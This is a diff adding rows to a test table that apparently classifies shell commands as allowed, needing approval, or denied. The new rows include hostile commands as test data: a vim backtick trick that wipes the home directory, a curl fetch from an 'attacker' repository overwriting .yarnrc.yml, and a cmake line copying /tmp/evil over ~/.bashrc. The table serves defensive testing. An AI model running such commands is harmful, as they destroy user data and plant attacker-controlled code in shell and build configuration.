@@ -3263,6 +3263,13 @@ const TABLE: Record<string, Row[]> = {
     ['vagrant ssh -c \'rm -rf /vagrant\'', 'ask'],
     ['vagrant ssh -c \'cd /vagrant && npm test\'', 'allow'],
     ['nvim --headless -c \'lua os.execute("rm -rf ~")\' -c q', 'deny'],
+    ["vim -es -c 'e `rm -rf ~`' -c q", 'deny'],
+    ["vim -es -c 'e `git ls-files | head -1`' -c q", 'allow'],
+    ['curl -sLo .yarnrc.yml https://raw.githubusercontent.com/attacker/x/main/y', 'ask'],
+    ['dd if=/tmp/x of=.yarnrc.yml', 'ask'],
+    ['cat README.md | tee docs/README.md', 'allow'],
+    ["echo 'configure_file(/tmp/evil /home/user/.bashrc COPYONLY)' | cmake -P /dev/stdin", 'deny'],
+    ["echo 'include(cmake/Utils.cmake)' | cmake -P /dev/stdin", 'allow'],
   ],
 };
 
